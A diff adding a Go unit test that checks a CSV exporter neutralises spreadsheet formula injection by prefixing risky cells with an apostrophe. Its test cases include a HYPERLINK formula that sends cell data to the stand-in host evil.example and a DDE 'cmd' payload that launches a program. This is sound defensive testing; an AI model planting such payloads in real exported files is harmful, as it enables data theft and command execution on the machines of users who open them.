@@ -82,3 +82,29 @@ func TestWriteRowsUnknownFormat(t *testing.T) {
 	err := WriteRows(&bytes.Buffer{}, nil, "yaml")
 	require.ErrorIs(t, err, ErrUnknownFormat)
 }
+
+// TestWriteRowsCSVNeutralisesFormulas: a text cell a spreadsheet would run
+// as a formula is exported with a leading apostrophe; others are exact.
+func TestWriteRowsCSVNeutralisesFormulas(t *testing.T) {
+	cases := []struct{ in, want string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
+		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"sess-42", "sess-42"},
+		{"a=b", "a=b"},
+		{"", ""},
+	}
+	for _, tc := range cases {
+		rows := sampleRows(1)
+		rows[0].SessionID, rows[0].DecidedModel = tc.in, tc.in
+		var buf bytes.Buffer
+		require.NoError(t, WriteRows(&buf, rows, FormatCSV))
+		recs, err := csv.NewReader(&buf).ReadAll()
+		require.NoError(t, err)
+		require.Equal(t, tc.want, recs[1][6], "session_id %q", tc.in)
+		require.Equal(t, tc.want, recs[1][9], "decided_model %q", tc.in)
+	}
+}
